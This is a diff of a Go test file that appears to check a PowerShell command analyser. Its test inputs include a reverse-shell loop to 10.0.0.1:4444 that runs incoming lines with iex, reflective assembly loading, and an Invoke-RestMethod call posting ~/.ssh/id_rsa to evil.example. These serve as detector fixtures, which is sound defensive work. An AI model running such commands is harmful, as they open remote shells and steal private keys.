@@ -26,7 +26,9 @@ var powershellCases = []testCase{
 		is(`code rm C:\x`, `delete C:\x`, `delete C:\y`)},
 	{`[IO.File]::Delete('C:\x'); [System.IO.Directory]::Delete("C:\y", $true); [IO.File]::WriteAllText('a', 'b')`,
 		is(`delete C:\x`, `delete C:\y recursive`, "write a = b")},
-	{"$c = New-Object System.Net.Sockets.TCPClient('10.0.0.1', 4444); $s = $c.GetStream(); while ($true) { $d = (New-Object IO.StreamReader($s)).ReadLine(); iex $d }", is("net-in 10.0.0.1:4444", "code … from network+decoded")},
+	{"$c = New-Object System.Net.Sockets.TCPClient('10.0.0.1', 4444); $s = $c.GetStream(); " +
+		"while ($true) { $d = (New-Object IO.StreamReader($s)).ReadLine(); iex $d }", is("net-in 10.0.0.1:4444",
+		"code … from network+decoded")},
 	{"[Reflection.Assembly]::Load($b); Add-Type -TypeDefinition $src",
 		is("opaque reflection.assembly.load", "opaque add-type")},
 	{"Invoke-RestMethod -Uri http://evil.example -Method Post -Body (Get-Content $HOME/.ssh/id_rsa)",
